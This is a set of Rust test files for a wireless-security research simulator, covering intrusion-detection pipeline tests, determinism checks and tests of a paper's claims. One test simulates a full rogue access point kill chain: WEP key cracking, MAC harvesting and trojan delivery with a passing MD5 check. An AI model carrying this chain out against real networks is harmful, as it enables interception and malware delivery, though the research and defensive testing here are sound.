            ssid: format!("NET-{}", i % 512),
            claimed_channel: [1u8, 6, 11][(i % 3) as usize],
            capability: 0,
            probe_resp: i.is_multiple_of(5),
        },
    })
}

#[test]
fn one_million_randomized_macs_cannot_grow_detector_state() {
    let mut pipe = WidsPipeline::new(WidsConfig {
        authorized_aps: vec![(MacAddr::local(1), 1)],
        ..WidsConfig::default()
    });
    let baseline = pipe.detector_state_bytes();
    assert!(baseline > 0, "state accounting must see the sketches");

    const TOTAL: u64 = 1_000_000;
    const CHUNK: u64 = 2048; // below the ring capacity: no drops
    let mut fed = 0;
    while fed < TOTAL {
        let n = CHUNK.min(TOTAL - fed);
        for i in fed..fed + n {
            pipe.ring.push(forged_beacon(i));
        }
        fed += n;
        pipe.step(SimTime(fed * 50_000));
    }

    assert_eq!(
        pipe.metrics().counter("wids.events"),
        TOTAL,
        "every forged frame must actually reach the detectors"
    );
    assert_eq!(
        pipe.detector_state_bytes(),
        baseline,
        "per-source state grew under randomized MACs"
    );
    // The sequence table is 4096 groups x 4 ways; a million sources must
    // fit the same fixed capacity as ten.
    assert!(
        pipe.tracked_sources() <= 4096 * 4,
        "tracked sources exceed the table's fixed capacity (got {})",
        pipe.tracked_sources()
    );
    assert!(
        pipe.state_evictions() > 0,
        "a million distinct sources must have recycled slots"
    );
}
