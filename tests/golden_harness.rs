//! Golden-file test: the harness tables at low reps must match the
//! checked-in copy byte for byte. Catches accidental numeric drift in
//! any experiment — the tables are pure functions of (seed, reps).
//!
//! When a change *intentionally* moves the numbers, bless the new
//! golden (and regenerate the full-reps `harness_output.txt` to match):
//!
//! ```text
//! BLESS=1 cargo test --offline -p rogue-bench --test golden_harness
//! cargo run --release --offline -p rogue-bench --bin harness 10 > harness_output.txt
//! ```

use std::path::PathBuf;

const GOLDEN_REPS: usize = 2;

fn golden_path() -> PathBuf {
    // crates/bench → repo root → tests/golden.
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/golden/harness_reps2.txt")
}

fn evasion_golden_path() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/golden/e10_evasion_reps2.txt")
}

#[test]
fn harness_tables_match_golden() {
    let rendered = rogue_bench::render_reports(GOLDEN_REPS);
    let path = golden_path();
    if std::env::var("BLESS").as_deref() == Ok("1") {
        std::fs::write(&path, &rendered).expect("write blessed golden file");
        return;
    }
    let golden = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("missing golden file {}: {e}", path.display()));
    assert_eq!(
        rendered, golden,
        "harness output drifted from tests/golden/harness_reps2.txt; if the change is \
         intentional, re-bless with: BLESS=1 cargo test --offline -p rogue-bench --test golden_harness"
    );
}

#[test]
fn evasion_table_matches_golden() {
    // The E10-evasion score card has its own golden: it sits outside the
    // frozen ten-report harness output but its numbers are pinned the
    // same way — a pure function of (seed, reps).
    let rendered = rogue_bench::render_report(&rogue_bench::report_e10_evasion(GOLDEN_REPS));
    let path = evasion_golden_path();
    if std::env::var("BLESS").as_deref() == Ok("1") {
        std::fs::write(&path, &rendered).expect("write blessed golden file");
        return;
    }
    let golden = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("missing golden file {}: {e}", path.display()));
    assert_eq!(
        rendered, golden,
        "evasion table drifted from tests/golden/e10_evasion_reps2.txt; if the change is \
         intentional, re-bless with: BLESS=1 cargo test --offline -p rogue-bench --test golden_harness"
    );
}
