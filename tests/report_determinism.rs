//! Parallel ≡ serial, proven at the artifact level: every rendered
//! experiment report must be byte-identical under a 1-thread, 2-thread,
//! and N-thread pool. This is the determinism contract the executor and
//! the drivers were built around — per-replication `Seed::fork` streams
//! plus index-ordered result collection make the thread count
//! unobservable in every table.

use rogue_bench::{render_report, report_builders, report_e10_evasion};

#[test]
fn every_report_is_byte_identical_across_thread_counts() {
    let reps = 2;
    let serial: Vec<String> = rayon::with_num_threads(1, || {
        report_builders()
            .iter()
            .map(|build| render_report(&build(reps)))
            .collect()
    });
    assert_eq!(serial.len(), 10, "one rendered table per experiment");
    for threads in [2, 4] {
        let parallel: Vec<String> = rayon::with_num_threads(threads, || {
            report_builders()
                .iter()
                .map(|build| render_report(&build(reps)))
                .collect()
        });
        for (serial_report, parallel_report) in serial.iter().zip(&parallel) {
            assert_eq!(
                serial_report, parallel_report,
                "report diverged between 1 and {threads} threads"
            );
        }
    }
}

#[test]
fn every_report_is_byte_identical_across_shard_counts() {
    // PR 8's contract, held at the artifact level: the sharded event
    // loop must be unobservable in every rendered table, whatever the
    // combination of shard count and pool size. Shard count 1 is the
    // classic serial loop (the baseline); 2 and 8 exercise region
    // routing, burst planning, and the (time, seq) merge under both a
    // serial and a parallel plan phase.
    let reps = 2;
    let baseline: Vec<String> = rayon::with_num_threads(1, || {
        report_builders()
            .iter()
            .map(|build| render_report(&build(reps)))
            .collect()
    });
    for shards in [2, 8] {
        for threads in [1, 4] {
            let sharded: Vec<String> = rogue_core::with_default_shards(shards, || {
                rayon::with_num_threads(threads, || {
                    report_builders()
                        .iter()
                        .map(|build| render_report(&build(reps)))
                        .collect()
                })
            });
            for (i, (a, b)) in baseline.iter().zip(&sharded).enumerate() {
                assert_eq!(
                    a, b,
                    "report {i} diverged at shards={shards} threads={threads}"
                );
            }
        }
    }
}

#[test]
fn evasion_report_is_byte_identical_across_thread_counts() {
    // E10-evasion lives outside `report_builders` (the ten-report
    // harness contract is frozen) but is held to the same standard: its
    // replication fan-out and the sharded WIDS engine underneath must
    // render identical bytes whatever the pool size.
    let reps = 2;
    let serial = rayon::with_num_threads(1, || render_report(&report_e10_evasion(reps)));
    for threads in [2, 4] {
        let parallel =
            rayon::with_num_threads(threads, || render_report(&report_e10_evasion(reps)));
        assert_eq!(
            serial, parallel,
            "evasion report diverged between 1 and {threads} threads"
        );
    }
}

// ---------------------------------------------------------------------
// The same contract for the scenario layer: a `.toml` file plus its
// seed is a pure function of the text, whatever the thread count. The
// E-series kinds fan replications out through rayon; summary runs are
// single-world but go through the same seed-forked generators — both
// must render identical bytes at 1, 2 and 4 threads.

fn scenario_report(file: &str, overrides: &[&str]) -> String {
    let path = format!("{}/../../scenarios/{file}", env!("CARGO_MANIFEST_DIR"));
    let src = std::fs::read_to_string(&path).expect("scenario file");
    let overrides: Vec<String> = overrides.iter().map(|s| s.to_string()).collect();
    rogue_scenario::run_source(&src, &overrides).expect("scenario run")
}

#[test]
fn scenario_reports_are_byte_identical_across_thread_counts() {
    // E10 exercises the rayon fan-out; the campus file (downscaled so
    // the suite stays quick) exercises the generator + mobility +
    // traffic path end to end.
    let cases: [(&str, &[&str]); 2] = [
        ("e10_wids.toml", &["report.reps=1"]),
        (
            "campus_waypoint_500.toml",
            &["population.0.count=12", "duration=4s"],
        ),
    ];
    for (file, overrides) in cases {
        let serial = rayon::with_num_threads(1, || scenario_report(file, overrides));
        for threads in [2, 4] {
            let parallel = rayon::with_num_threads(threads, || scenario_report(file, overrides));
            assert_eq!(
                serial, parallel,
                "{file} diverged between 1 and {threads} threads"
            );
        }
        // And under the sharded event loop: the campus case moves
        // radios across region stripes every mobility tick, the WIDS
        // case runs the full sensor pipeline — both must render the
        // same bytes as the serial loop.
        for shards in [2, 8] {
            let sharded =
                rogue_core::with_default_shards(shards, || scenario_report(file, overrides));
            assert_eq!(serial, sharded, "{file} diverged at shards={shards}");
        }
    }
}
