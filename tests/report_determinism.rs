//! Parallel ≡ serial, proven at the artifact level: every rendered
//! experiment report must be byte-identical under a 1-thread, 2-thread,
//! and N-thread pool. This is the determinism contract the executor and
//! the drivers were built around — per-replication `Seed::fork` streams
//! plus index-ordered result collection make the thread count
//! unobservable in every table.

use rogue_bench::{render_report, report_builders};

#[test]
fn every_report_is_byte_identical_across_thread_counts() {
    let reps = 2;
    let serial: Vec<String> = rayon::with_num_threads(1, || {
        report_builders()
            .iter()
            .map(|build| render_report(&build(reps)))
            .collect()
    });
    assert_eq!(serial.len(), 10, "one rendered table per experiment");
    for threads in [2, 4] {
        let parallel: Vec<String> = rayon::with_num_threads(threads, || {
            report_builders()
                .iter()
                .map(|build| render_report(&build(reps)))
                .collect()
        });
        for (serial_report, parallel_report) in serial.iter().zip(&parallel) {
            assert_eq!(
                serial_report, parallel_report,
                "report diverged between 1 and {threads} threads"
            );
        }
    }
}
