//! The scenario language's failure modes: every malformed file must be
//! rejected with an error carrying the line/column it came from and a
//! message naming the offending construct. A config language that
//! silently ignores typos ("deauht = true") is worse than no config
//! language — these tests pin the loud path.

use rogue_scenario::{load_source, parse_scenario};

/// A minimal valid scenario all the malformed variants derive from.
const VALID: &str = r#"
name = "parse-suite"
seed = 7
duration = "5s"

[[ap]]
ssid = "NET"
bssid = "aa:bb:cc:dd:00:01"
channel = 6
pos = [10.0, 0.0]

[[server]]
name = "www"
ip = "10.0.0.10"
content = "news"

[[population]]
name = "crowd"
count = 4
ssid = "NET"
area = [0.0, 0.0, 50.0, 20.0]

[[population.traffic]]
kind = "http"
server = "www"
"#;

fn err_of(src: &str) -> rogue_scenario::Error {
    parse_scenario(src).expect_err("malformed file must be rejected")
}

#[test]
fn the_baseline_file_is_valid() {
    let sc = parse_scenario(VALID).unwrap();
    assert_eq!(sc.name, "parse-suite");
    assert_eq!(sc.populations[0].count, 4);
}

#[test]
fn unknown_keys_are_rejected_with_position() {
    // Typo'd extra key inside [[ap]] — lands on line 10 of this variant.
    let src = VALID.replace("channel = 6", "channel = 6\nchanel = 11");
    let err = err_of(&src);
    assert!(err.msg.contains("unknown key `chanel`"), "{err}");
    assert_eq!(err.span.line, 10, "{err}");
    assert!(err.span.col > 1, "{err}");

    // Dropping a required key is caught too, named and positioned.
    let err = err_of(&VALID.replace("channel = 6\n", ""));
    assert!(err.msg.contains("missing required key `channel`"), "{err}");
    assert_eq!(err.span.line, 6, "the [[ap]] header's line: {err}");

    // Unknown key appended to the trailing traffic entry.
    let err = err_of(&format!("{VALID}burst = true\n"));
    assert!(err.msg.contains("unknown key `burst`"), "{err}");

    // Unknown key in a fresh top-level section.
    let err = err_of(&format!("{VALID}\n[wids]\nsensitivity = 3\n"));
    assert!(err.msg.contains("unknown key `sensitivity`"), "{err}");
}

#[test]
fn bad_macs_are_rejected() {
    let src = VALID.replace("aa:bb:cc:dd:00:01", "aa:bb:cc:dd:00");
    let err = err_of(&src);
    assert!(err.msg.contains("invalid MAC"), "{err}");
    assert_eq!(err.span.line, 8, "{err}");

    let src = VALID.replace("aa:bb:cc:dd:00:01", "not-a-mac");
    assert!(err_of(&src).msg.contains("invalid MAC"));
}

#[test]
fn bad_ips_are_rejected() {
    let src = VALID.replace("\"10.0.0.10\"", "\"10.0.0.256\"");
    let err = err_of(&src);
    assert!(err.msg.contains("invalid IPv4"), "{err}");
    assert_eq!(err.span.line, 14, "{err}");

    let src = VALID.replace("\"10.0.0.10\"", "\"gateway\"");
    assert!(err_of(&src).msg.contains("invalid IPv4"));
}

#[test]
fn out_of_range_channels_are_rejected() {
    for bad in ["0", "15", "-3"] {
        let src = VALID.replace("channel = 6", &format!("channel = {bad}"));
        let err = err_of(&src);
        assert!(err.msg.contains("out of range"), "{bad}: {err}");
        assert_eq!(err.span.line, 9, "{err}");
    }
}

#[test]
fn bad_durations_are_rejected() {
    for bad in ["\"5\"", "\"fast\"", "\"-2s\"", "\"1.2.3s\""] {
        let src = VALID.replace("\"5s\"", bad);
        let err = err_of(&src);
        assert_eq!(err.span.line, 4, "{bad}: {err}");
    }
}

#[test]
fn toml_level_errors_carry_position() {
    // Missing `=`.
    let err = err_of("name \"x\"\n");
    assert!(err.msg.contains("expected `=`"), "{err}");
    assert_eq!(err.span.line, 1);

    // Duplicate key.
    let err = err_of("name = \"a\"\nname = \"b\"\n");
    assert!(err.msg.contains("duplicate key"), "{err}");
    assert_eq!(err.span.line, 2);

    // Unterminated string.
    let err = err_of("name = \"open\n");
    assert!(err.msg.contains("unterminated"), "{err}");

    // Redefined plain table.
    let err = err_of("name = \"x\"\n[wids]\n[wids]\n");
    assert!(err.msg.contains("defined twice"), "{err}");
    assert_eq!(err.span.line, 3);
}

#[test]
fn dangling_references_are_rejected() {
    // Traffic to a server nobody defined.
    let src = VALID.replace("server = \"www\"", "server = \"cdn\"");
    let err = err_of(&src);
    assert!(err.msg.contains("`cdn`"), "{err}");

    // Population joining an SSID no AP advertises.
    let src = VALID.replace("ssid = \"NET\"\narea", "ssid = \"GHOST\"\narea");
    let err = err_of(&src);
    assert!(err.msg.contains("`GHOST`"), "{err}");

    // Rogue cloning an unknown AP.
    let src = format!("{VALID}\n[[rogue]]\nclone_ap = \"GHOST\"\nchannel = 6\npos = [0.0, 0.0]\n");
    let err = err_of(&src);
    assert!(err.msg.contains("rogue clones ssid `GHOST`"), "{err}");
}

#[test]
fn semantic_range_checks_fire() {
    // Zero-count population.
    let err = err_of(&VALID.replace("count = 4", "count = 0"));
    assert!(err.msg.contains("at least 1"), "{err}");

    // Inverted area.
    let err = err_of(&VALID.replace("[0.0, 0.0, 50.0, 20.0]", "[50.0, 0.0, 0.0, 20.0]"));
    assert!(err.msg.contains("x0 < x1"), "{err}");

    // Share outside 0..=1.
    let err = err_of(&format!("{VALID}share = 1.5\n"));
    assert!(err.msg.contains("share"), "{err}");

    // Waypoint speeds must be a positive range.
    let src =
        format!("{VALID}\n[population.mobility]\nmodel = \"waypoint\"\nspeed_mps = [0.0, 2.0]\n");
    let err = err_of(&src);
    assert!(err.msg.contains("speed_mps"), "{err}");

    // UDP payload below the 16-byte floor.
    let src = VALID.replace(
        "kind = \"http\"\nserver = \"www\"",
        "kind = \"udp\"\nserver = \"www\"\nrate_pps = 10\npayload = 8",
    );
    let err = err_of(&src);
    assert!(err.msg.contains("16 bytes"), "{err}");
}

#[test]
fn summary_scenarios_need_something_to_run() {
    let err = err_of("name = \"empty\"\n");
    assert!(err.msg.contains("nothing to run"), "{err}");
}

#[test]
fn override_errors_surface_through_load_source() {
    let err =
        load_source(VALID, &["population.7.count=2".to_string()]).expect_err("bad override index");
    assert!(err.msg.contains("out of range"), "{err}");

    // A well-formed override producing an invalid scenario still fails
    // through the same typed validation.
    let err = load_source(VALID, &["ap.0.channel=99".to_string()])
        .expect_err("overridden channel out of range");
    assert!(err.msg.contains("out of range"), "{err}");
}

#[test]
fn overriding_a_nonexistent_path_is_a_spanned_error() {
    // VALID has no [[wids]]-style `sensor` array: indexing one must die
    // in the override pass with a position, not silently materialize a
    // table for the typed pass to stumble over (or worse, ignore).
    let err = load_source(VALID, &["sensor.0.pos=[1.0, 2.0]".to_string()])
        .expect_err("override into a missing array must fail");
    assert!(err.msg.contains("no `sensor` array"), "{err}");
    assert!(err.span.line > 0, "error must carry a source span: {err}");

    // Dying mid-walk on an existing scalar points at that scalar's
    // actual line in the file.
    let err = load_source(VALID, &["duration.secs=3".to_string()])
        .expect_err("descending through a scalar must fail");
    assert!(err.msg.contains("not a table"), "{err}");
    assert_eq!(err.span.line, 4, "`duration` lives on line 4: {err}");
}
