//! One test per headline claim of the paper, phrased as the paper
//! phrases it. These are the assertions EXPERIMENTS.md's summary column
//! is generated from.

use rogue_core::experiments::e1_association::capture_with_deauth;
use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
use rogue_core::experiments::e3_vpn::{run_vpn_defense, VpnMode};
use rogue_core::experiments::e4_wep::{crack_once, random_key};
use rogue_core::experiments::e5_tcp_over_tcp::{tunnel_comparison, InnerFlow};
use rogue_core::experiments::e6_detection::run_detection_once;
use rogue_core::experiments::e7_matrix::{defense_matrix, scenario_for};
use rogue_core::policy::ClientPolicy;
use rogue_sim::{Seed, SimDuration, SimRng, SimTime};
use rogue_vpn::Transport;

/// §1: "wireless networks are particularly vulnerable to a simple MITM
/// that can make even rudimentary web surfing dangerous."
#[test]
fn claim_simple_mitm_vs_web_surfing() {
    let r = run_download_mitm(&DownloadMitmConfig::paper(), Seed(1));
    assert!(r.victim_got_trojan && r.md5_check_passed);
}

/// §2.1: WEP "provides no protection what so ever" in this scenario —
/// the attack succeeds identically with and without WEP.
#[test]
fn claim_wep_provides_no_protection() {
    let with_wep = run_download_mitm(
        &DownloadMitmConfig {
            scenario: scenario_for(ClientPolicy::Wep),
            ..DownloadMitmConfig::paper()
        },
        Seed(2),
    );
    let without = run_download_mitm(
        &DownloadMitmConfig {
            scenario: scenario_for(ClientPolicy::Open),
            ..DownloadMitmConfig::paper()
        },
        Seed(2),
    );
    assert_eq!(with_wep.victim_got_trojan, without.victim_got_trojan);
    assert!(with_wep.victim_got_trojan);
}

/// §2.1: MAC filtering "accomplishes nothing more than perhaps keeping
/// honest people honest."
#[test]
fn claim_mac_filtering_is_defeated_by_cloning() {
    let r = run_download_mitm(
        &DownloadMitmConfig {
            scenario: scenario_for(ClientPolicy::WepMacFilter),
            ..DownloadMitmConfig::paper()
        },
        Seed(3),
    );
    assert!(r.victim_got_trojan && r.md5_check_passed);
}

/// §4: "he could force the client's disassociation from the legitimate
/// AP until the client associates with the Rogue AP."
#[test]
fn claim_forced_deauth_roaming() {
    let rows = capture_with_deauth(2, Seed(4));
    assert_eq!(rows[0].capture_rate, 0.0, "no deauth, no late capture");
    assert!(rows[1].capture_rate > 0.9, "deauth forces the roam");
}

/// §4 premise: the WEP key is recoverable from passive capture.
#[test]
fn claim_airsnort_recovers_wep_keys() {
    let mut rng = SimRng::new(Seed(5));
    let key = random_key(&mut rng, 5);
    assert!(crack_once(&key, 240));
}

/// §5: the VPN makes the compromised segment harmless.
#[test]
fn claim_vpn_defeats_the_mitm() {
    let r = run_vpn_defense(VpnMode::Udp, Seed(6));
    assert!(r.victim_on_rogue, "still on the rogue…");
    assert!(!r.victim_got_trojan, "…but untouchable");
    assert!(r.victim_got_genuine && r.md5_check_passed);
}

/// §5.3: "any UDP traffic is subject to unnecessary retransmission by
/// TCP" under the PPP-over-SSH transport.
#[test]
fn claim_tcp_encap_retransmits_udp() {
    let rows = tunnel_comparison(InnerFlow::UdpCbr, &[0.05], 2, Seed(7));
    let udp = rows.iter().find(|r| r.transport == Transport::Udp).unwrap();
    let tcp = rows.iter().find(|r| r.transport == Transport::Tcp).unwrap();
    assert!(udp.udp_delivery < 0.995, "raw loss shows through UDP encap");
    assert!(
        tcp.udp_delivery > udp.udp_delivery,
        "TCP encap 'recovers' the loss…"
    );
    assert!(
        tcp.udp_max_latency_ms > 10.0 * udp.udp_max_latency_ms.max(0.5),
        "…by head-of-line-blocking retransmission (udp {udp:?}, tcp {tcp:?})"
    );
}

/// §2.3: sequence-control monitoring and site audits detect the rogue;
/// wired-side monitoring does not (the rogue never touches the LAN).
#[test]
fn claim_detection_asymmetry() {
    let o = run_detection_once(
        SimDuration::from_millis(250),
        SimTime::from_secs(15),
        Seed(8),
    );
    assert!(o.audit_latency_secs.is_some());
    assert!(o.seqmon_latency_secs.is_some());
    assert!(!o.wired_alarmed);
}

/// The thesis, in one table: only the VPN row defeats the attack.
#[test]
fn claim_defense_matrix_shape() {
    for row in defense_matrix(1, Seed(9)) {
        let is_vpn = matches!(row.policy, ClientPolicy::VpnAll(_));
        assert_eq!(
            row.deceived_rate == 0.0,
            is_vpn,
            "only VPN avoids deception: {row:?}"
        );
    }
}
