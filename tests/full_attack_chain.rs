//! The complete Section 4 kill chain, end to end, with **nothing given to
//! the attacker for free**:
//!
//! 1. passively sniff the WEP'd corporate network,
//! 2. recover the WEP key with the FMS attack (Airsnort),
//! 3. harvest a valid client MAC from the same capture,
//! 4. stand up the rogue gateway using only the *recovered* material,
//! 5. deliver the trojan with a passing MD5 check.
//!
//! Every stage consumes the previous stage's output — the recovered key
//! bytes configure the rogue AP, not the scenario's ground truth.

use rogue_attack::airsnort::{harvest_client_macs, Airsnort, CrackOutcome};
use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
use rogue_core::scenario::{addrs, corp_bssid, CorpScenarioCfg, RogueCfg};
use rogue_core::world::World;
use rogue_crypto::wep::{IvPolicy, WepKey};
use rogue_dot11::{ApConfig, MacAddr, StaConfig};
use rogue_phy::{MediumParams, Pos};
use rogue_services::traffic::PingApp;
use rogue_sim::{Seed, SimDuration, SimTime};

/// Phase 1–3: sniff, crack, harvest. Returns (recovered key, observed
/// client MACs).
fn sniff_and_crack(seed: Seed) -> (WepKey, Vec<MacAddr>) {
    let true_key = WepKey::from_passphrase_40("SECRET");
    let mut world = World::new(seed, MediumParams::default());

    // A small WEP'd BSS: a gateway-style AP (answers pings itself) plus
    // one chatty employee laptop.
    let ap_node = world.add_node("corp-ap");
    world.add_ap_local(
        ap_node,
        Pos::new(0.0, 0.0),
        15.0,
        ApConfig::typical(corp_bssid(), "CORP", 1, Some(true_key.clone())),
        addrs::CORP_GW,
        24,
    );
    let laptop = world.add_node("employee");
    let mut sta_cfg = StaConfig::typical(MacAddr::local(51), "CORP", Some(true_key.clone()));
    // Accelerated capture model (DESIGN.md E4): weak-only IVs stand in
    // for the millions of frames a sequential card interleaves them in.
    sta_cfg.iv_policy = IvPolicy::WeakOnly {
        counter: 0,
        key_len: 5,
    };
    world.add_sta(
        laptop,
        Pos::new(12.0, 0.0),
        15.0,
        sta_cfg,
        std::net::Ipv4Addr::new(192, 168, 0, 51),
        24,
    );
    // Traffic for the sniffer to chew on: a steady ping stream to the
    // gateway (every protected uplink frame leaks one FMS sample).
    world.add_app(
        laptop,
        Box::new(PingApp::new(
            addrs::CORP_GW,
            SimTime::from_millis(600),
            SimDuration::from_millis(4),
        )),
    );

    // The attacker's monitor, parked on channel 1.
    let attacker = world.add_node("attacker");
    let mon = world.add_monitor(attacker, Pos::new(20.0, 5.0), 1);

    world.run_until(SimTime::from_secs(8));

    let sniffer = world.sniffer(attacker, mon);
    let mut snort = Airsnort::new();
    snort.absorb_sniffer(sniffer);
    let key = match snort.crack(5) {
        CrackOutcome::Recovered(k) => k,
        other => panic!("Airsnort failed with {} samples: {other:?}", snort.samples),
    };
    let macs = harvest_client_macs(sniffer, corp_bssid());
    (key, macs)
}

#[test]
fn sniff_crack_clone_mitm_trojan() {
    // Phases 1–3.
    let (recovered_key, macs) = sniff_and_crack(Seed(0xA77AC4));
    let true_key = WepKey::from_passphrase_40("SECRET");
    assert_eq!(
        recovered_key.bytes(),
        true_key.bytes(),
        "FMS must recover the real key from sniffed frames"
    );
    assert!(
        macs.contains(&MacAddr::local(51)),
        "the employee's MAC must be harvested: {macs:?}"
    );

    // Phases 4–5: the rogue gateway configured from recovered material.
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.wep = Some(recovered_key); // ← the cracked key, not ground truth
    cfg.mac_filter = true; // the harvested MAC defeats it
    cfg.rogue = Some(RogueCfg::default());
    let result = run_download_mitm(
        &DownloadMitmConfig {
            scenario: cfg,
            ..DownloadMitmConfig::paper()
        },
        Seed(0xC4A17),
    );
    assert!(result.completed, "error: {:?}", result.error);
    assert!(result.victim_on_rogue);
    assert!(result.victim_got_trojan);
    assert!(result.md5_check_passed, "the victim must be fully deceived");
    assert_eq!(result.file_server, Some(addrs::EVIL));
}

#[test]
fn wrong_key_rogue_captures_nobody() {
    // Control: a rogue with a wrong WEP key advertises privacy but the
    // victim's data never decrypts — and more importantly here, the
    // victim still associates (802.11 open-auth!) but the bridge is
    // deaf, so the download cannot complete.
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.rogue = Some(RogueCfg::default());
    // Give the rogue a wrong key by giving the *network* a key the
    // scenario's rogue clones, then swapping the victim off it is not
    // expressible; instead verify at the crypto layer:
    let right = WepKey::from_passphrase_40("SECRET");
    let wrong = WepKey::new(b"WRONG");
    let body = rogue_crypto::wep::seal(&right, [1, 2, 3], 0, b"\xAA\xAA\x03\x00\x00\x00\x08\x00x");
    assert!(
        rogue_crypto::wep::open(&wrong, &body).is_err(),
        "a rogue without the key cannot read or re-seal client traffic"
    );
    let _ = cfg;
}
