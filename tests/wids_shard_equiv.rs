//! Property test of the sharded-engine contract: for ANY event stream,
//! ANY shard count, ANY batch size, and ANY step interleaving, the
//! sharded batched engine produces bit-identical incidents and raw-alert
//! counts to per-frame serial dispatch. The unit suite pins a few
//! hand-built streams; this test lets the generator hunt for the
//! interleaving that breaks the merge order, the shard routing, or a
//! detector whose batch path diverges from its serial path.
//!
//! Each event is decoded from one random `u64` (the vendored proptest
//! shim generates primitives, not structs): kind, transmitter, timing
//! gap, channel, RSSI, sequence number, SSID and sensor are all bit
//! slices, so the 64-case stream covers spoofs, floods, churn, cloaked
//! twins and ARP claims mixed in every order.

use proptest::prelude::*;
use rogue_dot11::MacAddr;
use rogue_netstack::arp::ArpOp;
use rogue_netstack::Ipv4Addr;
use rogue_sim::SimTime;
use rogue_wids::event::ArpEvent;
use rogue_wids::{
    Dot11Event, Dot11Kind, EngineMode, SensorEvent, SensorId, WidsConfig, WidsPipeline,
};

const SSIDS: [&str; 3] = ["CORP", "FREE-WIFI", ""];
const CHANNELS: [u8; 3] = [1, 6, 11];

/// Decode one raw word into a sensor event, advancing the clock.
fn decode(word: u64, at: &mut SimTime) -> SensorEvent {
    let kind = word & 0x7; // 0..8
    let ta_ix = (word >> 3) & 0xF; // 16 transmitters
    let dt_ms = (word >> 7) & 0x3F; // 0..64 ms between events
    let chan_ix = ((word >> 13) % 3) as usize;
    let rssi = -(30.0 + ((word >> 17) & 0x3F) as f64); // -30..-93 dBm
    let seq = ((word >> 23) & 0xFFF) as u16;
    let ssid_ix = ((word >> 35) % 3) as usize;
    let sensor = SensorId(((word >> 37) & 0x3) as u16);
    let flag = (word >> 39) & 1 == 1;

    *at = SimTime(at.0 + dt_ms * 1_000_000);
    let ta = MacAddr::local(ta_ix + 1);
    if kind >= 6 {
        return SensorEvent::Arp(ArpEvent {
            sensor,
            at: *at,
            src_mac: ta,
            op: if flag { ArpOp::Reply } else { ArpOp::Request },
            sender_mac: ta,
            sender_ip: Ipv4Addr::new(10, 0, 0, ta_ix as u8),
            target_ip: Ipv4Addr::new(10, 0, 0, 1),
            gratuitous: flag,
        });
    }
    let kind = match kind {
        0 | 1 => Dot11Kind::Beacon {
            ssid: SSIDS[ssid_ix].to_string(),
            claimed_channel: CHANNELS[(ssid_ix + kind as usize) % 3],
            capability: if flag { 0x10 } else { 0 },
            probe_resp: kind == 1,
        },
        2 => Dot11Kind::Deauth { reason: 7 },
        3 | 4 => Dot11Kind::Data { protected: flag },
        _ => Dot11Kind::Mgmt,
    };
    SensorEvent::Dot11(Dot11Event {
        sensor,
        at: *at,
        channel: CHANNELS[chan_ix],
        rssi_dbm: rssi,
        ta,
        ra: MacAddr::BROADCAST,
        bssid: ta,
        seq,
        retry: flag && matches!(kind, Dot11Kind::Data { .. }),
        kind,
    })
}

fn materialize(words: &[u64]) -> Vec<SensorEvent> {
    let mut at = SimTime::ZERO;
    words.iter().map(|&w| decode(w, &mut at)).collect()
}

/// Feed `events` in `chunk`-sized pushes with a step after each chunk,
/// returning the pipeline's complete observable outcome.
fn drive(
    engine: EngineMode,
    events: &[SensorEvent],
    chunk: usize,
) -> (Vec<(MacAddr, SimTime, f64, u32)>, u64) {
    let mut pipe = WidsPipeline::new(WidsConfig {
        authorized_aps: vec![(MacAddr::local(1), 1)],
        trusted_bindings: vec![(Ipv4Addr::new(10, 0, 0, 1), MacAddr::local(254))],
        engine,
        ..WidsConfig::default()
    });
    let mut last = SimTime::ZERO;
    for batch in events.chunks(chunk.max(1)) {
        for ev in batch {
            last = ev.at();
            pipe.ring.push(ev.clone());
        }
        pipe.step(last);
    }
    // Final drain in case the ring still holds events.
    pipe.step(SimTime(last.0 + 1));
    let incidents = pipe
        .incidents()
        .iter()
        .map(|i| (i.subject, i.opened_at, i.score, i.alerts_fused))
        .collect();
    (incidents, pipe.metrics().counter("wids.alerts_raw"))
}

proptest! {
    #[test]
    fn sharded_is_bit_identical_to_serial(
        words in proptest::collection::vec(any::<u64>(), 1..300),
        shard_pow in 0u32..7,      // 1..=64 shards, all divide 4096
        batch in 1usize..64,
        chunk in 1usize..80,
    ) {
        let events = materialize(&words);
        let serial = drive(EngineMode::Serial, &events, chunk);
        let sharded = drive(
            EngineMode::Sharded { shards: 1 << shard_pow, batch },
            &events,
            chunk,
        );
        prop_assert_eq!(serial, sharded);
    }

    #[test]
    fn sharded_is_insensitive_to_its_own_shape(
        words in proptest::collection::vec(any::<u64>(), 1..200),
        batch_a in 1usize..64,
        batch_b in 1usize..64,
        chunk in 1usize..80,
    ) {
        // Two different shard counts AND two different batch sizes must
        // still agree with each other bit for bit.
        let events = materialize(&words);
        let a = drive(EngineMode::Sharded { shards: 8, batch: batch_a }, &events, chunk);
        let b = drive(EngineMode::Sharded { shards: 64, batch: batch_b }, &events, chunk);
        prop_assert_eq!(a, b);
    }
}
