//! Equivalence proptests pinning the block-batched crypto paths to
//! independent byte-wise references.
//!
//! The record-path optimizations (block-batched ChaCha20 XOR, multi-block
//! SHA-1 absorption, precomputed HMAC pad midstates, register-local RC4)
//! are only admissible because they are *bit-identical* to the simple
//! per-byte formulations — every golden table in EXPERIMENTS.md depends
//! on the ciphertext bytes not moving. Each property here re-derives the
//! expected bytes through a deliberately naive path (one byte per
//! `update`, pads built by hand from RFC 2104) and requires exact
//! equality at arbitrary lengths, splits, and resumption points.

use proptest::prelude::*;
use rogue_crypto::chacha20::ChaCha20;
use rogue_crypto::hmac::{hmac_sha1, HmacSha1};
use rogue_crypto::sha1::Sha1;
use rogue_crypto::Rc4;

/// Naive HMAC-SHA1: pads assembled by hand, no midstates, one byte per
/// `update` call so even SHA-1's internal buffering is exercised on the
/// slowest path.
fn hmac_sha1_reference(key: &[u8], msg: &[u8]) -> [u8; 20] {
    let mut k = [0u8; 64];
    if key.len() > 64 {
        let mut h = Sha1::new();
        for &b in key {
            h.update(&[b]);
        }
        k[..20].copy_from_slice(&h.finalize());
